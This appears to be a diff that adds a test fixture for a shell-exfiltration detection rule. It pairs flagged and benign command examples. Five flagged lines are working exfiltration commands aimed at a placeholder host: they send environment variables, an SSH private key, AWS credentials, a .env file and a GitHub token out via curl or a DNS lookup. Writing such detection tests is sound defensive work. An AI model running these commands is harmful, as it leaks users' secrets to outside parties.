@@ -1,0 +1,16 @@
+# ruleid: exfiltration-by-shell
+env | curl -X POST --data-binary @- https://a.invalid
+# ruleid: exfiltration-by-shell
+cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.invalid
+# ruleid: exfiltration-by-shell
+curl -F "f=@$HOME/.aws/credentials" https://a.invalid/in
+# ruleid: exfiltration-by-shell
+curl -d @.env https://a.invalid/in
+# ruleid: exfiltration-by-shell
+dig @ns.a.invalid $(echo $GITHUB_TOKEN | base64).a.invalid
+# ok: exfiltration-by-shell
+curl -H "Authorization: Bearer $ACME_API_KEY" https://api.acme.invalid/v1 -d @body.json
+# ok: exfiltration-by-shell
+scp ~/.ssh/id_ed25519.pub user@host.invalid:keys/
+# ok: exfiltration-by-shell
+env | grep PATH
